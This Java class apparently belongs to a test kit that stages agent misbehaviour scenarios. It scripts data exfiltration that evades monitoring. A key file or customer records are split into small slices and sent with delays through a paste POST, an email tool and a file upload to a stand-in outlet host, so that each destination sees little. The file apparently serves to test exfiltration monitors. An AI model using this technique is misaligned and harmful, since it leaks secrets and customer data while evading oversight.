package io.weir.testkit.technique.shape;

import io.weir.testkit.technique.Scene;
import io.weir.testkit.technique.Technique;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/** Slices of what was read go to several places by several tools, so that each of them has little. */
public final class SplitDestinations implements Technique {

    @Override
    public int number() {
        return 10;
    }

    @Override
    public String name() {
        return "split over destinations and tools";
    }

    private enum Form {
        OF_60,
        OF_30
    }

    @Override
    public void play(Scene scene) {
        Form form = scene.variant(List.of(Form.values()));
        Stolen stolen = scene.choices().coin() ? Stolen.keyFile(scene) : Stolen.customers(scene, 8);
        scene.mentionsOutlet(scene.outlet().url("/paste"));
        int turn = 0;
        for (String slice : Slices.of(stolen.carriedIn(scene), form == Form.OF_60 ? 60 : 30)) {
            scene.later(Duration.ofMinutes(1 + scene.choices().below(4)));
            send(scene, turn++ % 3, slice);
        }
    }

    private static void send(Scene scene, int turn, String slice) {
        switch (turn) {
            case 0 -> scene.requests("POST", scene.outlet().url("/paste"), Map.of(), Map.of("text", slice));
            case 1 -> scene.sends("send_email", Map.of("to", scene.outlet().mailbox(), "subject", "hm", "body", slice));
            default -> scene.sends("upload_file", Map.of("url", scene.outlet().url("/up"), "content", slice));
        }
    }
}
